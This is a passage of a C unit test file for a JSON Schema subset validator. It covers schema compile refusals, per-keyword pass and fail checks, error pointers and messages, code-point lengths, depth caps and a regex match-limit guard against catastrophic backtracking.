/*
 * test_schema.c: the JSON Schema subset, compile and validate.
 *
 * Negative cases first: every refusal of pw_schema_compile(), then for
 * every keyword a failing instance (status, rule, pointer, expected,
 * actual, message) next to a passing one; then the pitwall-specific
 * behaviour (unknown members refused without additionalProperties, match
 * limits deny, code point lengths), and last allocation failure at every
 * allocation.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/json.h"
#include "core/schema.h"

/* The Checkout branch schema of the research example. */
#define BRANCH_PATTERN "^[A-Za-z0-9._/-]+$"
#define CHECKOUT_SCHEMA                                                                            \
	"{\"type\":\"object\",\"required\":[\"branch\"],\"properties\":{\"branch\":"               \
	"{\"type\":\"string\",\"pattern\":\"" BRANCH_PATTERN "\",\"maxLength\":200}}}"

/* ---- helpers ------------------------------------------------------------ */

/* Parse JSON text with pw_json_parse(); the test fails if it does not parse. */
static json_t *parse(const char *text)
{
	char err[256];
	json_t *v = NULL;
	pw_status st = pw_json_parse(text, strlen(text), NULL, &v, err, sizeof err);
	if (st != PW_OK)
		fail_msg("cannot parse %s: %s", text, err);
	return v;
}

static pw_schema *compile_ok(const char *schema_text)
{
	char err[512];
	pw_schema *s = NULL;
	json_t *schema = parse(schema_text);
	pw_status st = pw_schema_compile(schema, &s, err, sizeof err);
	json_decref(schema);
	if (st != PW_OK)
		fail_msg("schema %s: got %s (%s), want ok", schema_text, pw_status_name(st), err);
	assert_non_null(s);
	return s;
}

/* Compiling schema_text fails with want and exactly the message want_err. */
static void expect_compile_error(const char *schema_text, pw_status want, const char *want_err)
{
	char err[512];
	pw_schema *s = (pw_schema *)0x1;
	json_t *schema = parse(schema_text);
	pw_status st = pw_schema_compile(schema, &s, err, sizeof err);
	json_decref(schema);
	if (st != want)
		fail_msg("schema %s: got %s (%s), want %s", schema_text, pw_status_name(st), err,
		         pw_status_name(want));
	assert_null(s);
	if (strcmp(err, want_err) != 0)
		fail_msg("schema %s: message\n  got:  %s\n  want: %s", schema_text, err, want_err);
}

/* Compare a json value with JSON text (NULL: want no value), numbers by value. */
static void expect_json(const char *what, const json_t *got, const char *want_text)
{
	if (want_text == NULL) {
		if (got != NULL)
			fail_msg("%s: got a value, want none", what);
		return;
	}
	json_t *want = parse(want_text);
	bool same = pw_json_equal(got, want);
	json_decref(want);
	if (!same) {
		char *dump = got ? json_dumps(got, JSON_ENCODE_ANY | JSON_COMPACT) : NULL;
		fail_msg("%s: got %s, want %s", what, dump ? dump : "(none)", want_text);
	}
}

static void expect_pass(const char *schema_text, const char *instance_text)
{
	pw_schema_error e;
	pw_schema *s = compile_ok(schema_text);
	json_t *inst = parse(instance_text);
	pw_status st = pw_schema_validate(s, inst, &e);
	if (st != PW_OK)
		fail_msg("schema %s, instance %s: got %s (%s), want ok", schema_text, instance_text,
		         pw_status_name(st), e.message);
	assert_null(e.expected);
	assert_null(e.actual);
	pw_schema_error_release(&e);
	json_decref(inst);
	pw_schema_free(s);
}

typedef struct want_fail {
	pw_status status;
	const char *rule;
	const char *pointer;
	const char *expected; /* JSON text; NULL: none */
	const char *actual;   /* JSON text; NULL: none */
	const char *message;  /* NULL: not checked */
} want_fail;

static void check_error(const char *label, pw_status st, const pw_schema_error *e,
                        const want_fail *w)
{
	if (st != w->status)
		fail_msg("%s: got %s (%s), want %s", label, pw_status_name(st), e->message,
		         pw_status_name(w->status));
	if (strcmp(e->rule, w->rule) != 0)
		fail_msg("%s: rule %s, want %s", label, e->rule, w->rule);
	if (strcmp(e->pointer, w->pointer) != 0)
		fail_msg("%s: pointer \"%s\", want \"%s\"", label, e->pointer, w->pointer);
	expect_json("expected", e->expected, w->expected);
	expect_json("actual", e->actual, w->actual);
	if (w->message != NULL && strcmp(e->message, w->message) != 0)
		fail_msg("%s: message\n  got:  %s\n  want: %s", label, e->message, w->message);
	assert_null(strchr(e->message, '\n'));
}

static void expect_fail(const char *schema_text, const char *instance_text, want_fail w)
{
	pw_schema_error e;
	pw_schema *s = compile_ok(schema_text);
	json_t *inst = parse(instance_text);
	pw_status st = pw_schema_validate(s, inst, &e);
	check_error(instance_text, st, &e, &w);
	pw_schema_error_release(&e);
	assert_null(e.expected);
	/* without an error record the status is the same */
	assert_int_equal(pw_schema_validate(s, inst, NULL), w.status);
	json_decref(inst);
	pw_schema_free(s);
}

/* ---- compile refusals --------------------------------------------------- */

static void test_compile_rejects_unknown_keywords(void **state)
{
	(void)state;
	expect_compile_error("{\"format\":\"uri\"}", PW_ERR_INVALID,
	                     ": unsupported keyword \"format\"");
	expect_compile_error("{\"type\":\"object\",\"properties\":{\"branch\":"
	                     "{\"type\":\"string\",\"format\":\"uri\"}}}",
	                     PW_ERR_INVALID, "/properties/branch: unsupported keyword \"format\"");
	expect_compile_error("{\"$schema\":\"https://json-schema.org/draft/2020-12/schema\"}",
	                     PW_ERR_INVALID, ": unsupported keyword \"$schema\"");
	expect_compile_error("{\"items\":{\"oneOf\":[]}}", PW_ERR_INVALID,
	                     "/items: unsupported keyword \"oneOf\"");
	expect_compile_error("{\"additionalProperties\":{\"patternProperties\":{}}}",
	                     PW_ERR_INVALID,
	                     "/additionalProperties: unsupported keyword \"patternProperties\"");
	/* keyword names match exactly */
	expect_compile_error("{\"Type\":\"string\"}", PW_ERR_INVALID,
	                     ": unsupported keyword \"Type\"");
	/* member names are escaped in the pointer, odd bytes in the message */
	expect_compile_error("{\"properties\":{\"a/b~c\":{\"foo\":1}}}", PW_ERR_INVALID,
	                     "/properties/a~1b~0c: unsupported keyword \"foo\"");
	expect_compile_error("{\"fo\\no\\\"\":1}", PW_ERR_INVALID,
	                     ": unsupported keyword \"fo\\u000ao\\\"\"");
	/* the first problem in document order is the one reported */
	expect_compile_error("{\"bad1\":1,\"bad2\":2}", PW_ERR_INVALID,
	                     ": unsupported keyword \"bad1\"");
}

static void test_compile_rejects_wrong_keyword_types(void **state)
{
	(void)state;
	const pw_status I = PW_ERR_INVALID;
	expect_compile_error("[]", I, ": schema must be an object");
	expect_compile_error("true", I, ": schema must be an object");
	expect_compile_error("{\"properties\":{\"a\":5}}", I,
	                     "/properties/a: schema must be an object");
	expect_compile_error("{\"properties\":{\"a\":true}}", I,
	                     "/properties/a: schema must be an object");
	expect_compile_error("{\"properties\":[]}", I, "/properties: must be an object of schemas");

	expect_compile_error("{\"minLength\":-1}", I, "/minLength: must be a non-negative integer");
	expect_compile_error("{\"minLength\":\"abc\"}", I,
	                     "/minLength: must be a non-negative integer");
	expect_compile_error("{\"maxLength\":1.5}", I,
	                     "/maxLength: must be a non-negative integer");
	expect_compile_error("{\"minItems\":true}", I, "/minItems: must be a non-negative integer");
	expect_compile_error("{\"maxItems\":1e300}", I,
	                     "/maxItems: must be a non-negative integer");

	expect_compile_error("{\"required\":\"a\"}", I,
	                     "/required: must be an array of unique strings");
	expect_compile_error("{\"required\":[\"a\",1]}", I,
	                     "/required: must be an array of unique strings");
	expect_compile_error("{\"required\":[\"a\",\"b\",\"a\"]}", I, "/required: repeats \"a\"");

	expect_compile_error("{\"type\":\"strin\"}", I, "/type: unknown type \"strin\"");
	expect_compile_error("{\"type\":\"String\"}", I, "/type: unknown type \"String\"");
	expect_compile_error("{\"type\":5}", I,
	                     "/type: must be a type name or a non-empty list of them");
	expect_compile_error("{\"type\":[]}", I,
	                     "/type: must be a type name or a non-empty list of them");
	expect_compile_error("{\"type\":[\"string\",null]}", I,
	                     "/type: must be a type name or a non-empty list of them");
	expect_compile_error("{\"type\":[\"string\",\"null\",\"string\"]}", I,
	                     "/type: repeats type \"string\"");

	expect_compile_error("{\"enum\":{}}", I, "/enum: must be an array");
	expect_compile_error("{\"enum\":\"a\"}", I, "/enum: must be an array");
	expect_compile_error("{\"pattern\":5}", I, "/pattern: must be a string");
	expect_compile_error("{\"minimum\":\"1\"}", I, "/minimum: must be a number");
	expect_compile_error("{\"exclusiveMaximum\":true}", I,
	                     "/exclusiveMaximum: must be a number");
	expect_compile_error("{\"additionalProperties\":true}", I,
	                     "/additionalProperties: must be false or a schema");
	expect_compile_error("{\"additionalProperties\":\"no\"}", I,
	                     "/additionalProperties: must be false or a schema");
	expect_compile_error("{\"items\":[{}]}", I, "/items: must be a schema");
	expect_compile_error("{\"items\":false}", I, "/items: must be a schema");
	expect_compile_error("{\"description\":5}", I, "/description: must be a string");
	expect_compile_error("{\"title\":null}", I, "/title: must be a string");
	expect_compile_error("{\"examples\":{}}", I, "/examples: must be an array");
	expect_compile_error("{\"items\":{\"items\":{\"minLength\":-3}}}", I,
	                     "/items/items/minLength: must be a non-negative integer");
}

static void test_compile_rejects_unsatisfiable_required(void **state)
{
	(void)state;
	expect_compile_error("{\"type\":\"object\",\"required\":[\"a\"]}", PW_ERR_INVALID,
	                     "/required: requires a property that properties does not declare: "
	                     "\"a\"");
	expect_compile_error(
	        "{\"properties\":{\"x\":{\"type\":\"object\",\"properties\":{\"b\":{}},"
	        "\"required\":[\"b\",\"c\"]}}}",
	        PW_ERR_INVALID,
	        "/properties/x/required: requires a property that properties does not "
	        "declare: \"c\"");
	/* declared, or allowed by an additionalProperties schema: fine */
	pw_schema_free(compile_ok("{\"properties\":{\"a\":{}},\"required\":[\"a\"]}"));
	pw_schema_free(compile_ok("{\"additionalProperties\":{\"type\":\"string\"},"
	                          "\"required\":[\"a\"]}"));
}

static void test_compile_rejects_invalid_pattern(void **state)
{
	(void)state;
	char err[512];
	pw_schema *s = (pw_schema *)0x1;
	json_t *schema = parse("{\"properties\":{\"b\":{\"pattern\":\"(ab\"}}}");
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_ERR_INVALID);
	assert_null(s);
	const char *want = "/properties/b/pattern: invalid regular expression at offset 3: ";
	if (strncmp(err, want, strlen(want)) != 0)
		fail_msg("message %s, want it to start with %s", err, want);
	assert_non_null(strstr(err, "missing closing parenthesis"));
	json_decref(schema);

	expect_compile_error("{\"pattern\":\"[z-a]\"}", PW_ERR_INVALID,
	                     "/pattern: invalid regular expression at offset 3: range out of "
	                     "order in character class");
	/* \C is refused: it could split a code point */
	schema = parse("{\"pattern\":\"a\\\\Cb\"}");
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_ERR_INVALID);
	assert_null(s);
	assert_non_null(strstr(err, "/pattern: invalid regular expression"));
	json_decref(schema);
}

/* A chain of levels schemas, each the "items" of the one above. */
static json_t *nested_items(unsigned levels)
{
	json_t *cur = json_pack("{s:s}", "type", "string");
	for (unsigned i = 1; i < levels; i++)
		cur = json_pack("{s:o}", "items", cur);
	assert_non_null(cur);
	return cur;
}

static void test_compile_depth_cap(void **state)
{
	(void)state;
	char err[512];
	pw_schema *s = NULL;
	pw_schema_error e;

	json_t *schema = nested_items(64);
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_OK);
	json_decref(schema);
	/* an instance 63 arrays deep around a string fits; a number at the bottom does not */
	json_t *inst = json_string("x"), *bad = json_real(1);
	for (int i = 0; i < 63; i++) {
		inst = json_pack("[o]", inst);
		bad = json_pack("[o]", bad);
	}
	assert_int_equal(pw_schema_validate(s, inst, &e), PW_OK);
	assert_int_equal(pw_schema_validate(s, bad, &e), PW_ERR_INVALID);
	assert_string_equal(e.rule, "type");
	assert_int_equal(strlen(e.pointer), 63 * 2);
	assert_int_equal(strspn(e.pointer, "/0"), 63 * 2);
	char want[600];
	snprintf(want, sizeof want, "%s: expected string, got number", e.pointer);
	assert_string_equal(e.message, want);
	pw_schema_error_release(&e);
	json_decref(inst);
	json_decref(bad);
	pw_schema_free(s);

	schema = nested_items(65);
	s = (pw_schema *)0x1;
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_ERR_TOO_DEEP);
	assert_null(s);
	assert_true(strncmp(err, "/items/items/", 13) == 0);
	const char *tail = "...: schema nests deeper than 64 levels";
	assert_true(strlen(err) > strlen(tail));
	assert_string_equal(err + strlen(err) - strlen(tail), tail);
	json_decref(schema);
}

static void test_compile_error_buffer(void **state)
{
	(void)state;
	char err[8];
	pw_schema *s = (pw_schema *)0x1;
	json_t *schema = parse("{\"properties\":{\"\xc3\xa9\xc3\xa9\xc3\xa9\":{\"x\":1}}}");
	/* no buffer */
	assert_int_equal(pw_schema_compile(schema, &s, NULL, 0), PW_ERR_INVALID);
	assert_null(s);
	/* a small one: cut, terminated, not inside a code point */
	memset(err, 'z', sizeof err);
	assert_int_equal(pw_schema_compile(schema, &s, err, sizeof err), PW_ERR_INVALID);
	assert_string_equal(err, "/proper");
	assert_int_equal(pw_schema_compile(schema, &s, err, 1), PW_ERR_INVALID);
	assert_string_equal(err, "");
	char err14[14]; /* room for "/properties/" and half of the first \xc3\xa9 */
	assert_int_equal(pw_schema_compile(schema, &s, err14, sizeof err14), PW_ERR_INVALID);
	assert_string_equal(err14, "/properties/");
	json_decref(schema);
	assert_int_equal(pw_schema_compile(NULL, &s, err, sizeof err), PW_ERR_INVALID);
}

/* ---- every keyword: fail, then pass ------------------------------------- */

static void test_type(void **state)
{
	(void)state;
	expect_fail("{\"type\":\"string\"}", "5",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"string\"]", "5",
	                        ": expected string, got number"});
	expect_fail("{\"type\":[\"string\",\"null\"]}", "true",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"string\",\"null\"]", "true",
	                        ": expected string or null, got boolean"});
	expect_fail("{\"type\":[\"array\",\"object\",\"null\"]}", "\"x\"",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"array\",\"object\",\"null\"]",
	                        "\"x\"", ": expected array, object or null, got string"});
	expect_fail("{\"type\":\"integer\"}", "5.5",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"integer\"]", "5.5",
	                        ": expected integer, got number"});
	expect_fail("{\"type\":\"number\"}", "\"5\"",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"number\"]", "\"5\"", NULL});
	expect_fail("{\"type\":\"object\"}", "[]",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"object\"]", "[]", NULL});
	expect_fail("{\"type\":\"array\"}", "{}",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"array\"]", "{}", NULL});
	expect_fail("{\"type\":\"boolean\"}", "0",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"boolean\"]", "0", NULL});
	expect_fail("{\"type\":\"null\"}", "false",
	            (want_fail){PW_ERR_INVALID, "type", "", "[\"null\"]", "false", NULL});

	expect_pass("{\"type\":\"string\"}", "\"x\"");
	expect_pass("{\"type\":[\"string\",\"null\"]}", "null");
	expect_pass("{\"type\":\"integer\"}", "5");
	expect_pass("{\"type\":\"integer\"}", "5.0");
	expect_pass("{\"type\":\"integer\"}", "-1e20");
	expect_pass("{\"type\":\"number\"}", "5.5");
	expect_pass("{\"type\":\"boolean\"}", "false");
	expect_pass("{\"type\":\"object\"}", "{}");
	expect_pass("{\"type\":\"array\"}", "[1,\"a\"]");
	expect_pass("{}", "\"anything\"");
}

static void test_integer_accepts_json_integers(void **state)
{
	(void)state;
	pw_schema_error e;
	pw_schema *s = compile_ok("{\"type\":\"integer\",\"minimum\":5,\"enum\":[5,6]}");
	json_t *five = json_integer(5), *four = json_integer(4);
	assert_int_equal(pw_schema_validate(s, five, &e), PW_OK);
	assert_int_equal(pw_schema_validate(s, four, &e), PW_ERR_INVALID);
	assert_string_equal(e.rule, "enum");
	pw_schema_error_release(&e);
	json_decref(five);
	json_decref(four);
	pw_schema_free(s);
}

static void test_required(void **state)
{
	(void)state;
	expect_fail("{\"type\":\"object\",\"properties\":{\"branch\":{},\"x\":{}},"
	            "\"required\":[\"x\",\"branch\"]}",
	            "{\"x\":1}",
	            (want_fail){PW_ERR_INVALID, "required", "", "\"branch\"", NULL,
	                        ": missing required property \"branch\""});
	expect_fail("{\"properties\":{\"a\":{\"required\":[\"b\"],\"properties\":{\"b\":{}}}}}",
	            "{\"a\":{}}",
	            (want_fail){PW_ERR_INVALID, "required", "/a", "\"b\"", NULL,
	                        "/a: missing required property \"b\""});
	/* a required member that is null is present */
	expect_pass("{\"properties\":{\"branch\":{}},\"required\":[\"branch\"]}",
	            "{\"branch\":null}");
	expect_pass("{\"required\":[]}", "{}");
	/* required applies to objects only */
	expect_pass("{\"properties\":{\"a\":{}},\"required\":[\"a\"]}", "\"not an object\"");
}

static void test_additional_properties(void **state)
{
	(void)state;
	/* omitted: pitwall treats it as false */
	expect_fail("{\"type\":\"object\",\"properties\":{\"a\":{}}}", "{\"a\":1,\"b\":2}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/b", "\"b\"", "2",
	                        "/b: unknown property \"b\""});
	expect_fail("{}", "{\"a\":1}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/a", "\"a\"", "1", NULL});
	expect_fail("{\"properties\":{\"o\":{\"type\":\"object\"}}}", "{\"o\":{\"deep\":true}}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/o/deep", "\"deep\"",
	                        "true", "/o/deep: unknown property \"deep\""});
	/* stated false */
	expect_fail("{\"properties\":{\"a\":{}},\"additionalProperties\":false}", "{\"z\":[1]}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/z", "\"z\"", "[1]",
	                        "/z: unknown property \"z\""});
	/* a schema: unknown members are checked with it */
	expect_fail("{\"properties\":{\"a\":{}},\"additionalProperties\":{\"type\":\"string\"}}",
	            "{\"a\":1,\"x\":\"y\",\"z\":2}",
	            (want_fail){PW_ERR_INVALID, "type", "/z", "[\"string\"]", "2",
	                        "/z: expected string, got number"});
	/* member names are escaped in the pointer and quoted in the message */
	expect_fail("{}", "{\"a/b~c\":1}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/a~1b~0c", "\"a/b~c\"",
	                        "1", "/a~1b~0c: unknown property \"a/b~c\""});
	expect_fail("{}", "{\"x\\ny\\\"\":1}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/x\ny\"", "\"x\\ny\\\"\"",
	                        "1", "/x\\u000ay\": unknown property \"x\\u000ay\\\"\""});

	expect_pass("{\"properties\":{\"a\":{},\"b\":{}}}", "{\"a\":1,\"b\":2}");
	expect_pass("{\"properties\":{\"a\":{}}}", "{}");
	expect_pass("{\"additionalProperties\":{\"type\":\"string\"}}",
	            "{\"x\":\"y\",\"z\":\"w\"}");
	expect_pass("{\"properties\":{\"a\":{}}}", "[1]");
}

static void test_properties(void **state)
{
	(void)state;
	expect_fail("{\"properties\":{\"a\":{\"type\":\"string\"},\"b\":{\"type\":\"string\"}}}",
	            "{\"a\":\"ok\",\"b\":false}",
	            (want_fail){PW_ERR_INVALID, "type", "/b", "[\"string\"]", "false",
	                        "/b: expected string, got boolean"});
	/* many properties: each found by name */
	expect_pass("{\"properties\":{\"e\":{},\"d\":{},\"c\":{},\"bb\":{},\"a\":{},\"\":{}}}",
	            "{\"a\":1,\"bb\":2,\"c\":3,\"d\":4,\"e\":5,\"\":6}");
	expect_fail("{\"properties\":{\"e\":{},\"d\":{},\"c\":{},\"bb\":{},\"a\":{}}}",
	            "{\"a\":1,\"b\":2}",
	            (want_fail){PW_ERR_INVALID, "additionalProperties", "/b", "\"b\"", "2", NULL});
	/* properties applies to objects only */
	expect_pass("{\"properties\":{\"a\":{\"type\":\"string\"}}}", "3");
}

static void test_items(void **state)
{
	(void)state;
	expect_fail("{\"type\":\"array\",\"items\":{\"type\":\"integer\"}}", "[1,2,\"x\"]",
	            (want_fail){PW_ERR_INVALID, "type", "/2", "[\"integer\"]", "\"x\"",
	                        "/2: expected integer, got string"});
	expect_pass("{\"type\":\"array\",\"items\":{\"type\":\"integer\"}}", "[1,2,3.0]");
	expect_pass("{\"type\":\"array\",\"items\":{\"type\":\"integer\"}}", "[]");
}

static void test_min_max_items(void **state)
{
	(void)state;
	expect_fail("{\"minItems\":2}", "[1]",
	            (want_fail){PW_ERR_INVALID, "minItems", "", "2", "[1]",
	                        ": array has 1 item, fewer than minItems 2"});
	expect_fail("{\"maxItems\":2}", "[1,2,3]",
	            (want_fail){PW_ERR_INVALID, "maxItems", "", "2", "[1,2,3]",
	                        ": array has 3 items, more than maxItems 2"});
	expect_fail("{\"maxItems\":0}", "[null]",
	            (want_fail){PW_ERR_INVALID, "maxItems", "", "0", "[null]", NULL});
	expect_pass("{\"minItems\":2,\"maxItems\":2}", "[1,2]");
	expect_pass("{\"minItems\":2}", "\"a\"");
}

static void test_min_max_length_code_points(void **state)
{
	(void)state;
	expect_fail("{\"minLength\":2}", "\"\xc3\xa9\"", /* é: 2 bytes, 1 code point */
	            (want_fail){PW_ERR_INVALID, "minLength", "", "2", "\"\xc3\xa9\"",
	                        ": length 1 is less than minLength 2"});
	expect_fail("{\"maxLength\":1}", "\"ab\"",
	            (want_fail){PW_ERR_INVALID, "maxLength", "", "1", "\"ab\"",
	                        ": length 2 is greater than maxLength 1"});
	expect_fail("{\"maxLength\":2}", "\"\xf0\x9f\x98\x82\xf0\x9f\x98\x82x\"",
	            (want_fail){PW_ERR_INVALID, "maxLength", "", "2",
	                        "\"\xf0\x9f\x98\x82\xf0\x9f\x98\x82x\"",
	                        ": length 3 is greater than maxLength 2"});
	expect_pass("{\"maxLength\":1}", "\"\xc3\xa9\"");
	expect_pass("{\"maxLength\":1}", "\"\xf0\x9f\x98\x82\""); /* 😂: 4 bytes, 1 code point */
	expect_pass("{\"maxLength\":1}", "\"\\ud83d\\ude02\"");   /* the same, escaped */
	expect_pass("{\"minLength\":1,\"maxLength\":1}", "\"\xe2\x82\xac\"");
	expect_pass("{\"maxLength\":0}", "\"\"");
	expect_pass("{\"maxLength\":0}", "5");
}

static void test_pattern(void **state)
{
	(void)state;
	expect_fail("{\"pattern\":\"^[a-z]+$\"}", "\"abc1\"",
	            (want_fail){PW_ERR_INVALID, "pattern", "", "\"^[a-z]+$\"", "\"abc1\"",
	                        ": does not match pattern \"^[a-z]+$\""});
	/* "$" is the very end, as in ECMA-262: no newline sneaks past it */
	expect_fail("{\"pattern\":\"^[a-z]+$\"}", "\"abc\\n\"",
	            (want_fail){PW_ERR_INVALID, "pattern", "", "\"^[a-z]+$\"", "\"abc\\n\"", NULL});
	/* \d is ASCII, as in ECMA-262: ARABIC-INDIC DIGIT THREE is not a digit here */
	expect_fail("{\"pattern\":\"^\\\\d+$\"}", "\"\xd9\xa3\"",
	            (want_fail){PW_ERR_INVALID, "pattern", "", "\"^\\\\d+$\"", "\"\xd9\xa3\"",
	                        ": does not match pattern \"^\\\\d+$\""});
	/* a pattern with a newline stays on one line in the message */
	expect_fail("{\"pattern\":\"^a\\nb$\"}", "\"ab\"",
	            (want_fail){PW_ERR_INVALID, "pattern", "", "\"^a\\nb$\"", "\"ab\"",
	                        ": does not match pattern \"^a\\u000ab$\""});

	/* unanchored, as JSON Schema says */
	expect_pass("{\"pattern\":\"b\"}", "\"abc\"");
	expect_pass("{\"pattern\":\"^\\\\d+$\"}", "\"0123456789\"");
	/* code points, not bytes */
	expect_pass("{\"pattern\":\"^.$\"}", "\"\xf0\x9f\x98\x82\"");
	expect_pass("{\"pattern\":\"^[a-z]+$\"}", "5");
}

static void test_pattern_match_limit_denies(void **state)
{
	(void)state;
	pw_schema_error e;
	pw_schema *s = compile_ok("{\"properties\":{\"v\":{\"pattern\":\"^(a+)+$\"}}}");
	json_t *inst = parse("{\"v\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\"}");
	pw_status st = pw_schema_validate(s, inst, &e);
	check_error("catastrophic backtracking", st, &e,
	            &(want_fail){PW_ERR_LIMIT, "pattern", "/v", "\"^(a+)+$\"",
	                         "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\"",
	                         "/v: match limit reached for pattern \"^(a+)+$\""});
	pw_schema_error_release(&e);
	assert_int_equal(pw_schema_validate(s, inst, NULL), PW_ERR_LIMIT);
	json_decref(inst);
	/* short inputs still match and fail normally with the same schema */
	inst = parse("{\"v\":\"aaaa\"}");
	assert_int_equal(pw_schema_validate(s, inst, &e), PW_OK);
	json_decref(inst);
	inst = parse("{\"v\":\"aa!\"}");
	assert_int_equal(pw_schema_validate(s, inst, &e), PW_ERR_INVALID);
	pw_schema_error_release(&e);
	json_decref(inst);
	pw_schema_free(s);
}

static void test_pattern_limits_leave_room(void **state)
{
	(void)state;
	/* ordinary patterns on long strings are not stopped by the limits */
	size_t n = 100000;
	char *text = malloc(n + 3);
	assert_non_null(text);
	text[0] = '"';
	memset(text + 1, 'a', n);
	text[n + 1] = '"';
	text[n + 2] = '\0';
	expect_pass("{\"pattern\":\"^[a-z]+$\"}", text);
	free(text);
	char alt[2003];
	alt[0] = '"';
	for (int i = 0; i < 2000; i++)
		alt[1 + i] = (i % 2) ? 'a' : 'b';
	alt[2001] = '"';
	alt[2002] = '\0';
	expect_pass("{\"pattern\":\"^(a|b)+$\"}", alt);
}

static void test_numeric_bounds(void **state)
{
	(void)state;
	expect_fail("{\"properties\":{\"timeout\":{\"type\":\"number\",\"minimum\":60}}}",
	            "{\"timeout\":30}",
	            (want_fail){PW_ERR_INVALID, "minimum", "/timeout", "60", "30",
	                        "/timeout: 30 is less than minimum 60"});
	expect_fail("{\"maximum\":1.5}", "2",
	            (want_fail){PW_ERR_INVALID, "maximum", "", "1.5", "2",
	                        ": 2 is greater than maximum 1.5"});
	expect_fail("{\"exclusiveMinimum\":0}", "0",
	            (want_fail){PW_ERR_INVALID, "exclusiveMinimum", "", "0", "0",
	                        ": 0 is not greater than exclusiveMinimum 0"});
	expect_fail("{\"exclusiveMaximum\":10}", "10.0",
	            (want_fail){PW_ERR_INVALID, "exclusiveMaximum", "", "10", "10",
	                        ": 10 is not less than exclusiveMaximum 10"});
	expect_fail("{\"minimum\":-1e-7}", "-0.001",
	            (want_fail){PW_ERR_INVALID, "minimum", "", "-1e-7", "-0.001",
	                        ": -0.001 is less than minimum -1e-7"});

	expect_pass("{\"minimum\":60,\"maximum\":60}", "60");
	expect_pass("{\"exclusiveMinimum\":0,\"exclusiveMaximum\":1}", "0.5");
	expect_pass("{\"minimum\":60}", "\"30\"");
}

static void test_enum(void **state)
{
	(void)state;
	expect_fail("{\"enum\":[\"main\",\"dev\",5]}", "\"prod\"",
	            (want_fail){PW_ERR_INVALID, "enum", "", "[\"main\",\"dev\",5]", "\"prod\"",
	                        ": value is not one of the allowed values"});
	expect_fail("{\"enum\":[[1,2]]}", "[2,1]",
	            (want_fail){PW_ERR_INVALID, "enum", "", "[[1,2]]", "[2,1]", NULL});
	expect_fail("{\"enum\":[]}", "null",
	            (want_fail){PW_ERR_INVALID, "enum", "", "[]", "null", NULL});
	expect_pass("{\"enum\":[\"main\",\"dev\",5]}", "5.0");
	expect_pass("{\"enum\":[\"main\",\"dev\",5]}", "\"dev\"");
	expect_pass("{\"enum\":[null]}", "null");
}

static void test_const(void **state)
{
	(void)state;
	expect_fail("{\"const\":5}", "6",
	            (want_fail){PW_ERR_INVALID, "const", "", "5", "6",
	                        ": value is not the allowed constant"});
	expect_fail("{\"const\":\"5\"}", "5",
	            (want_fail){PW_ERR_INVALID, "const", "", "\"5\"", "5", NULL});
	expect_fail("{\"const\":null}", "false",
	            (want_fail){PW_ERR_INVALID, "const", "", "null", "false", NULL});
	expect_pass("{\"const\":5}", "5.0");
	expect_pass("{\"const\":null}", "null");
	expect_pass("{\"const\":[1,\"a\"]}", "[1.0,\"a\"]");
}

static void test_annotations_are_not_checked(void **state)
{
	(void)state;
	expect_pass("{\"title\":\"t\",\"description\":\"d\",\"default\":7,\"examples\":[1]}",
	            "\"x\"");
}

/* ---- reporting ---------------------------------------------------------- */

static void test_nested_pointer(void **state)
{
	(void)state;
	expect_fail("{\"type\":\"object\",\"properties\":{\"items\":{\"type\":\"array\",\"items\":"
	            "{\"type\":\"object\",\"properties\":{\"name\":{\"type\":\"string\"}}}}}}",
	            "{\"items\":[{\"name\":\"a\"},{\"name\":\"b\"},{\"name\":\"c\"},{\"name\":7}]}",
	            (want_fail){PW_ERR_INVALID, "type", "/items/3/name", "[\"string\"]", "7",
	                        "/items/3/name: expected string, got number"});
}

static void test_first_failure_in_document_order(void **state)
{
	(void)state;
	const char *schema = "{\"properties\":{\"a\":{\"type\":\"string\"},\"b\":{\"type\":"
	                     "\"string\"},\"c\":{}},\"required\":[\"a\",\"c\"]}";
	/* the object's own checks (required) come before its members */
	expect_fail(schema, "{\"b\":1,\"a\":2}",
	            (want_fail){PW_ERR_INVALID, "required", "", "\"c\"", NULL, NULL});
	/* then members in the instance's order, depth first */
	schema = "{\"properties\":{\"a\":{\"properties\":{\"x\":{\"type\":\"string\"}}},"
	         "\"b\":{\"type\":\"string\"}}}";
	expect_fail(schema, "{\"b\":1,\"a\":{\"x\":2}}",
	            (want_fail){PW_ERR_INVALID, "type", "/b", "[\"string\"]", "1", NULL});
	expect_fail(schema, "{\"a\":{\"x\":2},\"b\":1}",
	            (want_fail){PW_ERR_INVALID, "type", "/a/x", "[\"string\"]", "2", NULL});
	/* within one value: type, enum, then the type's own keywords */
	expect_fail("{\"type\":\"string\",\"enum\":[\"x\"],\"maxLength\":0}", "\"yy\"",
	            (want_fail){PW_ERR_INVALID, "enum", "", "[\"x\"]", "\"yy\"", NULL});
	expect_fail("{\"minLength\":5,\"maxLength\":1,\"pattern\":\"^z\"}", "\"ab\"",
	            (want_fail){PW_ERR_INVALID, "minLength", "", "5", "\"ab\"", NULL});
}

static void test_long_pointer_is_cut_in_the_message(void **state)
{
	(void)state;
	char key[301], text[400], want[1024];
	pw_schema_error e;
	memset(key, 'k', 300);
	key[300] = '\0';
	snprintf(text, sizeof text, "{\"%s\":1}", key);
	pw_schema *s = compile_ok("{}");
	json_t *inst = parse(text);
